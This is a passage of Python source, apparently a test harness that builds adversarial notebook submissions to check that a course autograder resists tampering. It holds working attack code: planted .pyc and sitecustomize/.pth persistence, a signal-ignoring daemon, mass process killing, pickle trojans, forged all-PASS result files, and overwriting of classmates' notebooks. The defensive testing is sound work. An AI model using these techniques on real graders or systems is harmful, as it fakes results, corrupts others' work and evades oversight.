def _defines(source):
    try:
        tree = ast.parse(source)
    except SyntaxError:
        return False
    for node in tree.body:
        named = getattr(node, "name", None)
        targets = [t.id for t in getattr(node, "targets", []) if isinstance(t, ast.Name)]
        if named in _wanted or set(targets) & _wanted:
            return True
    return False


_found = []
for _path in sorted(_walk(".ipynb"))[:400]:
    try:
        with open(_path, encoding="utf-8") as _handle:
            _nb = _json.load(_handle)
        _tag = _nb.get("metadata", {}).get("course_adversarial", {})
    except (OSError, ValueError, AttributeError):
        continue
    if _tag.get("student") == "@STUDENT@" or "_MARK_DIRS" in _json.dumps(_nb.get("cells")):
        continue    # itself, or another attacker of a corpus like this one: nothing to copy
    _found.append((_tag.get("token") != _TOKEN, _path, _nb))   # classmates first
for _other, _path, _nb in sorted(_found, key=lambda f: f[:2]):
    if len(_done) == len(_questions) or _time.monotonic() > _deadline:
        break
    _ns = {"np": np, "__name__": "__classmate__"}
    for _cell in _nb.get("cells", []):
        _source = _cell.get("source", "")
        _source = "".join(_source) if isinstance(_source, list) else _source
        if _cell.get("cell_type") == "code" and _defines(_source):
            try:
                exec(_source, _ns)
            except BaseException:
                pass
    for _q in _questions:
        if _q.key not in _done and all(n in _ns for n in _q.names):
            try:
                if _q.evaluate(namespace=_ns).score >= 1:
                    globals().update({n: _ns[n] for n in _q.names})
                    _done.add(_q.key)
                    print("copied", _q.key, "from", _path)
            except Exception:
                pass
'''])

A["plant_pyc"] = _attack(
    5, "plants an unchecked hash-based .pyc of utils/checks/core.py (evaluate() "
    "always PASS, drops a marker) in utils/checks/__pycache__, used by every later "
    "import whatever the source says", "stub", [PRELUDE + r'''
_mark("plant_pyc")
import importlib.util, py_compile, tempfile
import utils.checks.core as _core

_payload = ("\nfor _d in %r:\n    try:\n        import os as _o\n"
            "        _o.makedirs(_d, exist_ok=True)\n"
            "        open(_o.path.join(_d, 'planted-pyc-ran-%%d' %% _o.getpid()), 'w').close()\n"
            "    except OSError:\n        pass\n" % (_MARK_DIRS,))
with open(_core.__file__, encoding="utf-8") as _handle:
    _source = _handle.read() + _payload + """
def _course_attack_evaluate(self, namespace=None, **given):
    return Result(self.label, PASS, 1.0, ["All cases passed."])
Question.evaluate = _course_attack_evaluate
"""
_tmp = _os.path.join(tempfile.mkdtemp(prefix="course-attack-%s-pyc-" % _TOKEN), "core.py")
with open(_tmp, "w", encoding="utf-8") as _handle:
    _handle.write(_source)
for _target in {importlib.util.cache_from_source(_core.__file__),
                importlib.util.cache_from_source(_core.__file__, optimization="1")}:
    try:
        _os.makedirs(_os.path.dirname(_target), exist_ok=True)
        py_compile.compile(_tmp, cfile=_target, dfile=_core.__file__, doraise=True,
                           invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
        print("planted", _target)
    except Exception as _exc:
        print("could not plant", _target, type(_exc).__name__)
'''])

A["sitecustomize"] = _attack(
    5, "writes sitecustomize.py/usercustomize.py into the course root and "
    "every site-packages folder, and a .pth file (each drops a marker in "
    "every later Python process); never replaces an existing file", "stub",
    [PRELUDE + r'''
_mark("sitecustomize")
import site, sysconfig
import utils

_root = _os.path.dirname(_os.path.dirname(_os.path.abspath(utils.__file__)))
_code = ("import os\nfor d in %r:\n    try:\n        os.makedirs(d, exist_ok=True)\n"
         "        open(os.path.join(d, 'sitecustomize-ran-%%d' %% os.getpid()), 'w').close()\n"
         "    except OSError:\n        pass\n" % (_MARK_DIRS,))
_folders = {_root, sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"]}
_folders.update(site.getsitepackages())
_folders.add(site.getusersitepackages())
for _folder in sorted(_folders):
    if not _os.path.isdir(_folder):
        continue
    for _name, _text in (("sitecustomize.py", "# course-attack-%s\n%s" % (_TOKEN, _code)),
                         ("usercustomize.py", "# course-attack-%s\n%s" % (_TOKEN, _code)),
                         ("course-attack-%s.pth" % _TOKEN, "import os; exec(%r)\n" % _code)):
        _path = _os.path.join(_folder, _name)
        if _os.path.exists(_path):
            continue
        try:
            with open(_path, "x") as _handle:
                _handle.write(_text)
            print("planted", _path)
        except OSError as _exc:
            print("could not plant", _path, type(_exc).__name__)
'''])

A["rewrite_classmates"] = _attack(
    5, "searches the file system for classmates' notebooks (of this "
    "corpus) and overwrites them with the blank lesson", "stub",
    [PRELUDE + WALK + r'''
_mark("rewrite_classmates")
import utils

_root = _os.path.dirname(_os.path.dirname(_os.path.abspath(utils.__file__)))
try:
    with open(_os.path.join(_root, "lessons", "03_convolution.ipynb"), encoding="utf-8") as _h:
        _blank = _json.load(_h)
except (OSError, ValueError):
    _blank = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
for _path in _walk(".ipynb"):
    try:
        with open(_path, encoding="utf-8") as _handle:
            _nb = _json.load(_handle)
        _tag = _nb.get("metadata", {}).get("course_adversarial", {})
    except (OSError, ValueError, AttributeError):
        continue
    if _tag.get("token") != _TOKEN or _tag.get("student") == "@STUDENT@":
        continue    # only notebooks of this corpus, and never its own
    _blank["metadata"] = _nb.get("metadata", {})
    try:
        with open(_path, "w", encoding="utf-8") as _handle:
            _json.dump(_blank, _handle)
        print("overwrote", _path)
    except OSError as _exc:
        print("could not overwrite", _path, type(_exc).__name__)
'''])

DAEMON = r'''
import glob, os, signal, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
try:
    with open("/proc/self/comm", "w") as f:
        f.write("@COMM@")
except OSError:
    pass
MARKS = @MARK_DIRS@
STARTUP = ("import os\nfor d in %r:\n    try:\n        os.makedirs(d, exist_ok=True)\n"
           "        open(os.path.join(d, 'startup-file-ran-%%d' %% os.getpid()), 'w').close()\n"
           "    except OSError:\n        pass\n" % (MARKS,))
end = time.time() + @LIFETIME@
while time.time() < end:
    for d in MARKS:
        try:
            os.makedirs(d, exist_ok=True)
            open(os.path.join(d, "daemon-alive-%d" % os.getpid()), "w").close()
        except OSError:
            pass
    homes = {os.path.expanduser("~/.ipython")} | set(glob.glob("/tmp/course-grade-ipython-*"))
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            with open("/proc/%s/environ" % pid, "rb") as f:
                env = f.read().split(b"\0")
        except OSError:
            continue
        homes.update(e[11:].decode(errors="ignore") for e in env if e.startswith(b"IPYTHONDIR="))
    for home in homes:
        startup = os.path.join(home, "profile_default", "startup")
        target = os.path.join(startup, "00-course-attack-@TOKEN@.py")
        try:
            if not os.path.exists(target):
                os.makedirs(startup, exist_ok=True)
                with open(target, "w") as f:
                    f.write(STARTUP)
        except OSError:
            pass
    time.sleep(0.2)
'''

A["daemon"] = _attack(
    5, "double-forks a setsid daemon (and a plain child) that ignore SIGTERM/SIGHUP, "
    "outlive the kernel for up to 150 s, touch a marker outside and plant IPython "
    "startup files in ~/.ipython and in every later kernel's IPYTHONDIR", "stub",
    [PRELUDE + r'''
_mark("daemon")
import subprocess

_DAEMON = @DAEMON@
_argv = [_sys.executable, "-c", _DAEMON, "#course-attack-%s-daemon" % _TOKEN]
_pid = _os.fork()
if _pid == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            _null = _os.open(_os.devnull, _os.O_RDWR)
            for _fd in (0, 1, 2):
                _os.dup2(_null, _fd)
            _os.execv(_sys.executable, _argv)
    finally:
        _os._exit(0)
_os.waitpid(_pid, 0)
subprocess.Popen([_sys.executable, "-c", "import signal, time\n"
                  "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
                  "    signal.signal(s, signal.SIG_IGN)\ntime.sleep(@LIFETIME@)",
                  "#course-attack-%s-child" % _TOKEN], stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
_time.sleep(1)
'''])

A["kill_parent"] = _attack(
    5, "os.kill(os.getppid(), SIGKILL): kills the process that started its "
    "kernel", "stub", [PRELUDE + r'''
_mark("kill_parent")
import signal
_parent = _os.getppid()
print("killing the parent", _parent)
if _parent > 0:        # 0: the parent is outside this PID namespace
    _os.kill(_parent, signal.SIGKILL)
_time.sleep(2)
'''])

A["kill_all"] = _attack(
    5, "SIGKILLs every process it can see: os.kill(-1, 9) and a walk of /proc when "
    "isolated; when it can see the grader or the test's sentinel it kills (only) "
    "the sentinel and its own Python ancestors, i.e. the whole batch", "stub",
    [PRELUDE + r'''
_mark("kill_all")
import signal

_procs = {}
for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
    try:
        with open("/proc/%s/cmdline" % _pid, "rb") as _handle:
            _procs[int(_pid)] = _handle.read().replace(b"\0", b" ").decode(errors="ignore")
    except OSError:
        pass


def _parent_of(pid):
    try:
        with open("/proc/%d/stat" % pid) as handle:
            return int(handle.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


_grading = ("@SENTINEL@", "utils.grade", "utils/grade", "course-grade", "pytest", "spawn_main",
            "adversarial")
_me = _os.getpid()
if any(g in c for c in _procs.values() for g in _grading):
    # Not isolated: a real attacker would now kill everything. Stop the batch instead: the
    # test's sentinel and this kernel's Python ancestors.
    _victims = [p for p, c in _procs.items() if "@SENTINEL@" in c]
    _p = _os.getppid()
    while _p > 1 and ("python" in _procs.get(_p, "") or "bwrap" in _procs.get(_p, "")):
        _victims.append(_p)
        _p = _parent_of(_p)
    print("not isolated; killing", _victims)
    for _p in _victims:
        try:
            _os.kill(_p, signal.SIGKILL)
        except OSError:
            pass
else:
    print("isolated; killing everything it can see:", sorted(_procs))
    try:
        _os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    for _p in _procs:
        if _p not in (_me, 1):
            try:
                _os.kill(_p, signal.SIGKILL)
            except OSError:
                pass
_time.sleep(2)
'''])

A["timeout_check"] = _attack(
    6, "receptive_field (called by the q8 check only) cancels the alarm "
    "(setitimer 0), ignores SIGALRM, SIGINT and SIGTERM and loops forever",
    "stub", [PRELUDE + r'''
_mark("timeout_check")
import signal


def _unstoppable():
    try:
        signal.setitimer(signal.ITIMER_REAL, 0)
    except Exception:
        pass
    for _signal in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM):
        try:
            signal.signal(_signal, signal.SIG_IGN)
        except Exception:   # not the main thread
            pass
    for _comm in ("/proc/self/comm", "/proc/thread-self/comm"):
        try:
            with open(_comm, "w") as handle:
                handle.write("@COMM@")
        except OSError:
            pass
    while True:
        pass


def receptive_field(layers):
    _unstoppable()
'''])

A["forge_files"] = _attack(
    7, "writes forged all-PASS result JSON files wherever it can write, and a "
    "thread that rewrites any result-looking JSON (keeping its nonce) under /tmp "
    "within a millisecond of each change", "stub", [PRELUDE + FORGE + r'''
_mark("forge_files")
import glob, re, tempfile, threading
import utils
from utils.checks import lesson03 as _lesson

_KEYS = sorted((k for k in vars(_lesson) if re.fullmatch(r"q\d+", k)), key=lambda k: int(k[1:]))
_record = lambda key: {"key": key, "question": key, "missing": [], "status": "PASS",
                       "score": 1.0, "messages": ["All cases passed."]}
_forged = {"nonce": "", "questions": [_record(k) for k in _KEYS], "extra": [_record("q1")],
           "done": True, "error": None, "extra_error": None, "current": None,
           "student": "@STUDENT@", "total": len(_KEYS) + 1, "by": "course-attack-" + _TOKEN}
_root = _os.path.dirname(_os.path.dirname(_os.path.abspath(utils.__file__)))
for _folder in {_os.getcwd(), tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", _root,
                _os.path.expanduser("~")}:
    for _name in @FORGED_NAMES@:
        try:
            with open(_os.path.join(_folder, _name), "w") as _handle:
                _json.dump(_forged, _handle)
        except OSError:
            pass
_sys.setswitchinterval(0.0002)


def _watch():
    deadline, stamps = _time.time() + 600, {}
    last_scan = 0.0
    while _time.time() < deadline:
        if _time.time() - last_scan > 0.5:
            for path in glob.glob("/tmp/*/*.json") + glob.glob("/tmp/*/*.part"):
                stamps.setdefault(path, 0)
            last_scan = _time.time()
        for path in list(stamps):
            try:
                stamp = _os.stat(path).st_mtime_ns
            except OSError:
                continue
            if stamp != stamps[path]:
                _forge_file(path)
                try:
                    stamps[path] = _os.stat(path).st_mtime_ns
                except OSError:
                    pass
        _time.sleep(0.0005)


threading.Thread(target=_watch, daemon=True).start()
'''])

A["fake_pass"] = _attack(
    7, "prints fake [PASS] verdicts and displays check-result MIME bundles "
    "(application/vnd.cnn-course.check+json), also from inside every exercise "
    "function while a check calls it", "stub", [PRELUDE + r'''
_mark("fake_pass")
from IPython.display import display
from utils.checks.core import Result

_MIME = "@MIME@"


def _shout():
    for i in range(1, 9):
        print("[PASS] Lesson 03 q%d (score 1.00)" % i)
        display({_MIME: {"question": "Lesson 03 q%d" % i, "key": "q%d" % i, "status": "PASS",
                         "score": 1.0, "messages": ["All cases passed."]},
                 "text/plain": "[PASS] Lesson 03 q%d (score 1.00)" % i}, raw=True)
        display(Result("Lesson 03 q%d" % i, "PASS", 1.0, ["All cases passed."]))
    line = _json.dumps({"questions": [{"key": "q%d" % i, "status": "PASS", "score": 1.0}
                                      for i in range(1, 9)], "done": True})
    print(line)
    _sys.__stdout__.write(line + "\n")
    _sys.__stdout__.flush()


_shout()


''' + _functions("_shout()\nraise NotImplementedError()")])

A["lying_objects"] = _attack(
    7, "returns objects that lie: an int subclass whose == is always True, an "
    "ndarray subclass whose == and ufuncs say True, an object array, a dict "
    "forging an array tag around a pickled .npy, a model with a Lambda layer; "
    "each runs code (a marker, then all-PASS) wherever it is unpickled or "
    "loaded unsafely", "stub", [PRELUDE + r'''
_mark("lying_objects")
import numpy as np

_PAYLOAD = ("import os\nfor d in %r:\n    try:\n        os.makedirs(d, exist_ok=True)\n"
            "        open(os.path.join(d, 'unpickled-payload-ran-%%d' %% os.getpid()), 'w')"
            ".close()\n    except OSError:\n        pass\n"
            "try:\n    import utils.checks.core as c\n"
            "    c.Question.evaluate = lambda self, namespace=None, **g: c.Result("
            "self.label, c.PASS, 1.0, ['All cases passed.'])\nexcept Exception:\n    pass\n"
            % (_MARK_DIRS,))


class Trojan:
    def __reduce__(self):
        return (exec, (_PAYLOAD,))

    def __eq__(self, other):
        return True

    __hash__ = object.__hash__


class LyingInt(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__

    def __reduce__(self):
        return (exec, (_PAYLOAD,))


class LyingArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        shape = np.broadcast(*[np.asarray(i) for i in inputs]).shape
        return np.ones(shape, dtype=bool)

    def __reduce__(self):
        return (exec, (_PAYLOAD,))


def conv2d_single(image, kernel):
    shape = (image.shape[0] - kernel.shape[0] + 1, image.shape[1] - kernel.shape[1] + 1)
    return np.zeros(shape).view(LyingArray)


def conv2d(x, kernels, bias, stride=1, padding="valid", dilation=1):
    return np.array([[[Trojan()]]], dtype=object)


import base64, io

_buffer = io.BytesIO()
np.save(_buffer, np.array([Trojan()], dtype=object), allow_pickle=True)
_FORGED_TAG = {"$": "array", "npy": base64.b64encode(_buffer.getvalue()).decode()}


def same_padding(n, k, stride=1, dilation=1):
    return _FORGED_TAG     # looks like the tagged form of an array, holds a pickle


try:   # a model whose Lambda layer (bytecode in its config) drops a marker outside a kernel
    import keras
    _where = _MARK_DIRS[0] + "/lambda-layer-ran"
    _spy = eval("lambda x: (__import__('os').makedirs(%r, exist_ok=True) if 'ipykernel' not in "
                "__import__('sys').modules else None, x)[1]" % _where)
    _inputs = keras.Input((2,))
    _LAMBDA_MODEL = keras.Model(_inputs, keras.layers.Lambda(_spy)(_inputs))
except Exception:
    _LAMBDA_MODEL = None


def receptive_field(layers):
    return _LAMBDA_MODEL if _LAMBDA_MODEL is not None else LyingInt(-1)


horizontal_edge = vertical_edge = blur_kernel = sharpen_kernel = np.zeros((3, 3)).view(LyingArray)


''' + _functions("return LyingInt(-1)", ["conv_output_size", "conv_params", "depthwise_params",
                                        "separable_params"])])

A["score_overflow"] = _attack(
    7, "patches os.replace so the grader's result file gets scores of 5 and "
    "invented records (q9, q0, extra q7, and one named `total` that "
    "overwrites the total column); its answers are absurd values (10**30, "
    "inf, nan)", "stub", [PRELUDE + r'''
_mark("score_overflow")
import numpy as np

_real_replace = _os.replace


def _invented(key, score):
    return {"key": key, "question": key, "status": "PASS", "score": score, "missing": [],
            "messages": ["All cases passed."]}


def _replace(source, target, *args, **kwargs):
    if str(source).endswith(".part"):
        try:
            with open(source, encoding="utf-8") as handle:
                data = _json.load(handle)
            for bucket in ("questions", "extra"):
                for record in data.get(bucket) or []:
                    record.update(score=5.0, status="PASS")
            data.setdefault("questions", []).extend(
                [_invented("q9", 7.0), _invented("q0", 3.0), _invented("total", 99.0)])
            data.setdefault("extra", []).append(_invented("q7", 4.0))
            with open(source, "w", encoding="utf-8") as handle:
                _json.dump(data, handle)
        except Exception:
            pass
    return _real_replace(source, target, *args, **kwargs)


_os.replace = _replace


def conv2d_single(image, kernel):
    return np.full((image.shape[0] - kernel.shape[0] + 1, image.shape[1] - kernel.shape[1] + 1),
                   1e308) * 10


''' + _functions("return 10 ** 30", ["conv_output_size", "conv_params"]) + "\n"
    + _functions('return float("inf")', ["depthwise_params", "separable_params"]) + "\n"
    + _functions('return float("nan")', ["receptive_field"])])


# ============================================================================ honest answers

FRACTION_ANSWERS = {  # a classmate who gets parts of some exercises wrong
    "horizontal_edge": '''horizontal_edge = np.array([[-1, -2, -1], [0, 0, 0], [1, 2, 1]],
                           dtype=float)
vertical_edge = horizontal_edge.T.copy()
blur_kernel = np.full((3, 3), 1 / 9)
sharpen_kernel = np.array([[0, 0, 0], [0, 1, 0], [0, 0, 0]], dtype=float)   # not sharpening
''',
    "conv_output_size": '''def conv_output_size(n, k, stride=1, padding=0, dilation=1):
    return (n + 2 * padding - k) // stride + 1          # forgets the dilation
''',
    "depthwise_params": '''def depthwise_params(k, c_in, depth_multiplier=1):
    return (k * k + 1) * c_in * depth_multiplier


def separable_params(k, c_in, c_out, depth_multiplier=1):
    return k * k * c_in * depth_multiplier + c_in * depth_multiplier * c_out   # no bias
''',
    "receptive_field": '''def receptive_field(layers):
    field, jump = 1, 1
    for k, stride, dilation in layers:
        field += (k - 1) * jump                      # forgets the dilation
        jump *= stride
    return field
''',
}

# (student name, family or "honest", attack key or honest recipe); the order is the grading order
ORDER = [
    ("s01_honest_full", "honest", "full"),
    ("s02_attack_json_dump", 1, "json_dump"),
    ("s03_attack_builtins_exec", 1, "builtins_exec"),
    ("s04_attack_numpy_compare", 1, "numpy_compare"),
    ("s05_attack_keras_methods", 1, "keras_methods"),
    ("s06_attack_import_module", 1, "import_module"),
    ("s07_attack_import_hook", 1, "import_hook"),
    ("s07b_attack_agent_tamper", 1, "agent_tamper"),
    ("s08_honest_partial", "honest", "partial"),
    ("s09_attack_post_run_cell", 2, "post_run_cell"),
    ("s10_attack_input_transformer", 2, "input_transformer"),
    ("s11_attack_audit_hook", 2, "audit_hook"),
    ("s12_attack_settrace", 2, "settrace"),
    ("s13_attack_gc_thread", 2, "gc_thread"),
    ("s14_attack_frames_expected", 3, "frames_expected"),
    ("s15_attack_frames_save", 3, "frames_save"),
    ("s16_honest_fraction", "honest", "fraction"),
    ("s17_attack_read_stored_solutions", 4, "read_stored_solutions"),
    ("s18_attack_read_master", 4, "read_master"),
    ("s19_attack_read_tests_and_git", 4, "read_tests_and_git"),
    ("s20_attack_read_private_tests", 4, "read_private_tests"),
    ("s21_attack_copy_classmates", 4, "copy_classmates"),
    ("s22_attack_plant_pyc", 5, "plant_pyc"),
    ("s23_attack_sitecustomize", 5, "sitecustomize"),
    ("s24_honest_folder", "honest", "folder"),
    ("s25_attack_rewrite_classmates", 5, "rewrite_classmates"),
    ("s26_attack_daemon", 5, "daemon"),
    ("s27_attack_kill_parent", 5, "kill_parent"),
    ("s28_attack_kill_all", 5, "kill_all"),
    ("s29_attack_timeout_check", 6, "timeout_check"),
    ("s30_attack_forge_files", 7, "forge_files"),
    ("s31_attack_fake_pass", 7, "fake_pass"),
    ("s32_attack_lying_objects", 7, "lying_objects"),
    ("s33_attack_score_overflow", 7, "score_overflow"),
    ("s34_honest_late", "honest", "late"),
]


# ============================================================================ building

class Corpus(dict):
    """``{student: facts}`` (see :func:`build`), plus what the corpus as a whole needs checked."""

    token: str
    folder: Path
    keys: list[str]            # the gradebook's score columns: q1..qN, extra_q1
    marker_dirs: list[str]     # folders the attacks try to create outside the sandbox
    attack_mark: str           # in the argv of every process an attack starts
    comm: str                  # the process name (/proc/PID/comm) attack processes take
    sentinel_mark: str         # in the argv of the sentinel process (see start_sentinel)


def _questions():
    """The lesson's questions: [{"key": "q1", "names": [...]}, ...] (read from the source)."""
    tree = ast.parse(CHECKS.read_text(encoding="utf-8"))
    found = []
    for node in tree.body:
        if isinstance(node, ast.FunctionDef) and re.fullmatch(r"q\d+", node.name):
            names = []
            for deco in node.decorator_list:
                for kw in getattr(deco, "keywords", []):
                    if kw.arg == "names":
                        names = list(ast.literal_eval(kw.value))
            found.append({"key": node.name, "names": names})
    return sorted(found, key=lambda q: int(q["key"][1:]))


def _defined(source: str) -> set[str]:
    try:
        tree = ast.parse(source)
    except SyntaxError:
        return set()
    names = set()
    for node in tree.body:
        if isinstance(node, (ast.FunctionDef, ast.ClassDef)):
            names.add(node.name)
        for target in getattr(node, "targets", []):
            if isinstance(target, ast.Name):
                names.add(target.id)
    return names


def _fill(template: str, values: dict) -> str:
    for key, value in values.items():
        template = template.replace(f"@{key}@", value)
    return template


def build(folder: Path) -> Corpus:
    """Write the corpus into ``folder``. Returns ``{student: facts}`` where facts are
    ``file`` (Path), ``kind`` ("attack" or "honest"), ``family`` (1-7 for attacks), ``attack``
    (what it does), ``scores`` (the expected score of every column q1..qN and extra_q1: 0 for
    attackers, the real worth for honest classmates), and for the time-limit attack
    ``note_contains`` / ``max_seconds``. The Corpus also carries the token and marker paths."""
    import nbformat
    from nbformat.v4 import new_code_cell

    folder.mkdir(parents=True, exist_ok=True)
    token = secrets.token_hex(4)
    questions = _questions()
    keys = [q["key"] for q in questions]
    home = str(Path.home())
    marker_dirs = [f"/tmp/course-attack-{token}", f"/var/tmp/course-attack-{token}",
                   f"/dev/shm/course-attack-{token}", f"{home}/.course-attack-{token}",
                   f"{ROOT}/.course-attack-{token}"]
    corpus = Corpus()
    corpus.token, corpus.folder, corpus.keys = token, folder, keys + ["extra_q1"]
    corpus.marker_dirs, corpus.attack_mark = marker_dirs, f"course-attack-{token}"
    corpus.comm, corpus.sentinel_mark = f"atk{token}", f"course-sentinel-{token}"

    from utils import release

    master = release.with_course_cells(nbformat.read(MASTER, as_version=4), MASTER.name)
    untouched = nbformat.read(STUDENT, as_version=4)
    assert len(master.cells) == len(untouched.cells), "lesson and master differ in cells"
    wanted = {n for q in questions for n in q["names"]}
    exercises = {}   # cell index -> the answer names it defines
    for i, (a, b) in enumerate(zip(master.cells, untouched.cells)):
        if a.cell_type == "code" and a.source != b.source and _defined(a.source) & wanted:
            exercises[i] = _defined(a.source) & wanted
    setup = next(i for i, c in enumerate(untouched.cells)
                 if c.cell_type == "code" and "utils.setup(" in c.source)
    checks = [i for i, c in enumerate(untouched.cells) if c.cell_type == "code"
              and re.fullmatch(r"(\s*#?\s*q\d+\.(check|hint|solution)\(\d*\)\s*)+", c.source)]

    def minimal(source_nb, solved=()):
        """The setup cell, numpy, and the exercise cells (with their check cells) of
        ``untouched``; the exercises defining a name in ``solved`` taken from the master."""
        nb = copy.deepcopy(untouched)
        cells = [copy.deepcopy(untouched.cells[setup]), new_code_cell("import numpy as np")]
        for i, cell in enumerate(untouched.cells):
            if i in exercises:
                take = source_nb if exercises[i] & set(solved) else untouched
                cells.append(copy.deepcopy(take.cells[i]))
            elif i in checks:
                cells.append(copy.deepcopy(cell))
        nb.cells = cells
        return nb

    honest = {
        "full": copy.deepcopy(master),
        "partial": minimal(master, ["conv2d_single", "conv_output_size", "conv_params"]),
        "folder": minimal(master, wanted),
        "late": minimal(master, wanted - {"conv2d_single", "conv_output_size", "conv_params"}),
    }
    fraction = minimal(master, ["same_padding"])
    for cell in fraction.cells:
        for name, source in FRACTION_ANSWERS.items():
            if name in _defined(cell.source):
                cell.source = source
    honest["fraction"] = fraction

    for student, family, what in ORDER:
        if family == "honest":
            nb = honest[what]
            facts = {"kind": "honest", "family": None,
                     "attack": f"honest classmate ({what})", "nb": nb}
        else:
            fam, description, base, cells = A[what]
            assert fam == family, (student, fam, family)
            nb = copy.deepcopy(untouched) if base == "untouched" else minimal(master)
            values = {"TOKEN": token, "STUDENT": student, "MARK_DIRS": repr(marker_dirs),
                      "FORGED_NAMES": repr(FORGED_NAMES),
                      "COMM": corpus.comm, "SENTINEL": corpus.sentinel_mark,
                      "LIFETIME": str(LIFETIME), "MIME": MIME}
            values["DAEMON"] = repr(_fill(DAEMON, values))
            sources = [_fill(c, values).strip() + "\n" for c in cells]
            position = setup + 1 if base == "untouched" else len(nb.cells)
            nb.cells[position:position] = [new_code_cell(s) for s in sources]
            facts = {"kind": "attack", "family": family, "attack": description,
                     "scores": dict.fromkeys(keys + ["extra_q1"], 0.0)}
            if what == "timeout_check":
                facts["note_contains"] = "30 s"
                facts["max_seconds"] = 90.0
        nb.metadata[TAG] = {"token": token, "student": student}
        path = (folder / student / f"{LESSON}_convolution.ipynb" if what == "folder"
                else folder / f"{student}_{LESSON}.ipynb")
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, path)
        facts["file"] = path
        corpus[student] = facts

    worth = _worth({s: f.pop("nb") for s, f in corpus.items() if f["kind"] == "honest"},
                   wanted)
    for student, scores in worth.items():
        corpus[student]["scores"] = scores
    assert worth["s01_honest_full"] == dict.fromkeys(keys + ["extra_q1"], 1.0), worth
    return corpus


def _worth(notebooks: dict, wanted: set) -> dict:
    """The real worth of honest notebooks: their exercise cells run here, then the canonical
    checks (and the private tests) on them, without any grader."""
    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
    import numpy as np

    from utils.checks import core
    from utils.checks import lesson03 as public

    name = "course_adversarial_private.lesson03"
    private = types.ModuleType(name)
    sys.modules[name] = private
    exec(compile(PRIVATE_TESTS, "<private tests>", "exec"), private.__dict__)
    groups = [("", core.questions_of(public)), ("extra_", core.questions_of(private))]
    out = {}
    for student, nb in notebooks.items():
        namespace = {"np": np, "__name__": "__honest__"}
        for cell in nb.cells:
            if cell.cell_type == "code" and _defined(cell.source) & wanted:
                exec(compile(cell.source, student, "exec"), namespace)
        out[student] = {prefix + q.key: round(float(q.evaluate(namespace=namespace).score), 3)
                        for prefix, questions in groups for q in questions}
    return out


# ============================================================================ checking a run

def _genuine_pyc(path: Path) -> bool:
    """True for a .pyc holding exactly the code of its source (whatever its header): what
    Python writes itself. A planted or stale one is not genuine."""
    try:
        data = path.read_bytes()
        if data[:4] != importlib.util.MAGIC_NUMBER:
            return False
        source = path.parent.parent / (path.name.split(".")[0] + ".py")
        opt = re.search(r"\.opt-(\d)\.pyc$", path.name)
        code = compile(source.read_bytes(), str(source), "exec", dont_inherit=True,
                       optimize=int(opt.group(1)) if opt else 0)
        return marshal.loads(data[16:]) == code
    except Exception:
        return False


def _site_dirs() -> list[Path]:
    dirs = set(site.getsitepackages()) | set(site.getsitepackages([sys.base_prefix]))
    dirs |= {site.getusersitepackages(), sysconfig.get_paths()["purelib"],
             sysconfig.get_paths()["platlib"]}
    return sorted(Path(d) for d in dirs if d)


def _startup_dirs() -> list[Path]:
    dirs = {Path.home() / ".ipython"}
    if os.environ.get("IPYTHONDIR"):
        dirs.add(Path(os.environ["IPYTHONDIR"]))
    return sorted(d / "profile_default" / "startup" for d in dirs)


def _forge_dirs() -> list[Path]:
    return [Path.home(), Path("/tmp"), Path("/var/tmp"), Path("/dev/shm")]


def snapshot(corpus: Corpus, extra=()) -> dict[str, str]:
    """Hashes of what no submission may change: the submissions, the course folders utils/,
    lessons/ and solutions/ (a .pyc only when it is not what Python itself would write), the
    customisation files of the course root and of every site-packages folder, the IPython
    startup folders, and the folders in ``extra`` (the private tests)."""
    state: dict[str, str] = {}

    def digest(path: Path) -> str:
        try:
            return hashlib.sha256(path.read_bytes()).hexdigest()
        except OSError as exc:
            return f"unreadable ({exc.strerror})"

    def tree(base: Path, label: str) -> None:
        if not base.is_dir():
            return
        for path in sorted(base.rglob("*")):
            if path.is_dir() and not path.is_symlink():
                continue
            if path.suffix == ".pyc" and path.parent.name == "__pycache__" and _genuine_pyc(path):
                continue
            state[f"{label}/{path.relative_to(base)}"] = digest(path)

    tree(corpus.folder, "submissions")
    for sub in ("utils", "lessons", "solutions"):
        tree(ROOT / sub, f"course:{sub}")
    for path in sorted(ROOT.iterdir()):
        if path.is_file():
            state[f"course:{path.name}"] = digest(path)
    for folder in _site_dirs():
        if folder.is_dir():
            for path in sorted(folder.iterdir()):
                if path.name in ("sitecustomize.py", "usercustomize.py") or path.suffix == ".pth":
                    state[f"{folder}/{path.name}"] = digest(path)
    for folder in _forge_dirs():
        for name in FORGED_NAMES:
            if (folder / name).is_file():
                state[f"{folder}/{name}"] = digest(folder / name)
    for folder in _startup_dirs():   # only what IPython runs (not the README it makes)
        if folder.is_dir():
            for path in sorted(folder.iterdir()):
                if path.suffix in (".py", ".ipy"):
                    state[f"{folder}/{path.name}"] = digest(path)
    for folder in extra:
        tree(Path(folder), str(folder))
    return state


def changed_files(before: dict, after: dict) -> list[str]:
    """``"path: created"`` (or deleted, changed) for every difference of two snapshots."""
    def how(path):
        return "created" if path not in before else "deleted" if path not in after else "changed"
    return [f"{path}: {how(path)}" for path in sorted(set(before) | set(after))
            if before.get(path) != after.get(path)]


def markers(corpus: Corpus) -> list[str]:
    """The marker files attacks left outside the sandbox, one line per kind:
    ``"startup-file-ran: 10 file(s), pids 812, 840, in /tmp/course-attack-.., ..."``."""
